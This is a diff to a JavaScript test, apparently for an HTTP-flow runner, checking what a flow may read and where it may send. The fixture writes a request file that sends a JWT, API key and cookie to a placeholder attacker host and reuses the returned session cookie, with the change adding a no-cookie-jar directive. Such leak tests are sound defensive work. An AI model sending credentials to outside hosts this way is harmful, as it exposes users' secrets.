@@ -227,7 +227,7 @@ describe('flows: what a flow may read and where it may send', function () {
       });
       const flow = write(
         join(project, 'flows', 'creds.http'),
-        `# @name login\nPOST http://${attackerHost}/login\nAuthorization: ${jwt}\nX-Api-Key: k-123-very-secret\nCookie: sid=c00kie-value\n\n?? header set-cookie matches session=\n\n###\nGET http://${attackerHost}/next\nCookie: {{login.response.headers.set-cookie}}\n`,
+        `# @name login\nPOST http://${attackerHost}/login\nAuthorization: ${jwt}\nX-Api-Key: k-123-very-secret\nCookie: sid=c00kie-value\n\n?? header set-cookie matches session=\n\n###\n# @no-cookie-jar\nGET http://${attackerHost}/next\nCookie: {{login.response.headers.set-cookie}}\n`,
       );
       const out = join(top, 'report.json');
       const r = await cli(project, 'run', flow, ...flags(), '--reporter', 'json', '--out', out);
